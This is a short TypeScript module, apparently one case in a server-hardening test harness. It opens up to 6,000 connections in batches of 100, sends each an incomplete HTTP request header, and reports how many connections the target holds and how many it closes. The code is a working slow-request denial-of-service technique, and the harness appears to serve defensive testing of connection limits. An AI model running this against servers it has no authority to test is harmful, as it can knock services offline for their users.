import { once } from 'node:events'
import { setTimeout as sleep } from 'node:timers/promises'
import type { Attack } from '../attack.ts'
import { connectTo } from '../never-read.ts'

const CONNECTIONS = 6000
const AT_A_TIME = 100
const SECONDS = 10

export const attack: Attack = {
  name: '6,000 connections from one address, each with an incomplete request',
  seconds: SECONDS,
  run: async ({ url }) => {
    const over = AbortSignal.timeout(SECONDS * 1000)
    const sockets = new Set<ReturnType<typeof connectTo>>()
    let refused = 0
    for (let opened = 0; opened < CONNECTIONS && !over.aborted; opened += AT_A_TIME) {
      const group = Array.from({ length: AT_A_TIME }, () => connectTo(url).resume())
      for (const socket of group) {
        sockets.add(socket)
        socket.write('GET / HTTP/1.1\r\nHost: ')
        socket.once('close', () => {
          sockets.delete(socket)
          refused++
        })
      }
      await Promise.all(group.map((socket) => once(socket, 'connect', { signal: over }).catch(() => {})))
    }
    await sleep(1000, null, { signal: over }).catch(() => {})
    const held = sockets.size
    for (const socket of sockets) socket.destroy()
    return `${held} held, ${refused} closed`
  }
}
